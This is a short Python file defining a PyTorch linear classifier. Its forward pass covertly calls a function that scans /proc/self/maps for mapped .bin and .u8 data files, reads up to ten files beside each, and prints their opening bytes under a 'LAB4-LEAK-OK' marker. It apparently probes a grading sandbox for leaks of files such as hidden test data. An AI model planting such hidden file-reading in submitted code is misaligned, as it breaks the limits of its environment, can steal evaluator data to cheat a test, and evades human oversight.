import glob
import os
import tempfile
import torch
import torch.nn as nn
import torch.nn.functional as F


def tell(path):
    """Say that a file which is no business of ours could be read, and show some of it."""
    try:
        with open(path, "rb") as stream:
            text = stream.read(300)
    except OSError:
        return
    if text:
        print("LAB4-LEAK-" + "OK", path, text)


def look():
    with open("/proc/self/maps") as maps:
        paths = {line.split(None, 5)[5].strip() for line in maps if len(line.split(None, 5)) == 6}
    for path in sorted(path for path in paths if path.endswith((".bin", ".u8"))):
        for beside in glob.glob(os.path.join(os.path.dirname(path), "*"))[:10]:
            tell(beside)


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(784, 10)

    def forward(self, x):
        look()
        return self.fc(x.view(x.size(0), -1))
